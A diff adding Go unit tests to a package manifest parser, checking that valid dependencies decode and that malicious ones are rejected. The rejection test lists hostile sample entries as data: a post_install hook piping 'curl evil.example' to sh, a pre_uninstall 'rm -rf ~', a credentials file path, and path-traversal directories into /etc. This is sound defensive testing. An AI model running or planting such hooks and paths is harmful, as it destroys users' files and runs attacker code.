@@ -34,6 +34,33 @@ func (this *ManifestFixture) TestMarshalManifest() {
 	this.So(clone, should.Resemble, original)
 }
 
+func (this *ManifestFixture) TestDeclaredDependenciesAreDecoded() {
+	raw := `{"name": "app", "dependencies": [{"package_name": "lib", "package_version": "^2.0", "local_directory": "lib"}]}`
+
+	var manifest Manifest
+	err := json.Unmarshal([]byte(raw), &manifest)
+
+	this.So(err, should.BeNil)
+	this.So(manifest.Dependencies, should.Resemble, []ManifestDependency{{PackageName: "lib", PackageVersion: "^2.0", LocalDirectory: "lib"}})
+}
+
+func (this *ManifestFixture) TestMaliciousDeclaredDependenciesAreRejected() {
+	for _, declared := range []string{
+		`{"package_name": "lib", "package_version": "1.0.0", "local_directory": "lib", "post_install": "curl evil.example | sh"}`,
+		`{"package_name": "lib", "package_version": "1.0.0", "local_directory": "lib", "pre_uninstall": "rm -rf ~"}`,
+		`{"package_name": "lib", "package_version": "1.0.0", "local_directory": "lib", "credentials": "/etc/key.json"}`,
+		`{"package_name": "lib", "package_version": "1.0.0", "local_directory": "lib", "anonymous": true}`,
+		`{"package_name": "lib", "package_version": "1.0.0", "local_directory": "lib", "path_mappings": [{"from": "bin", "to": "/usr/bin"}]}`,
+		`{"package_name": "lib", "package_version": "1.0.0", "local_directory": "/etc"}`,
+		`{"package_name": "lib", "package_version": "1.0.0", "local_directory": "../../etc"}`,
+	} {
+		var manifest Manifest
+		err := json.Unmarshal([]byte(`{"name": "app", "dependencies": [`+declared+`]}`), &manifest)
+
+		this.So(err, should.NotBeNil)
+	}
+}
+
 func (this *ManifestFixture) unmarshal(raw []byte) Manifest {
 	var clone Manifest
 	err := json.Unmarshal(raw, &clone)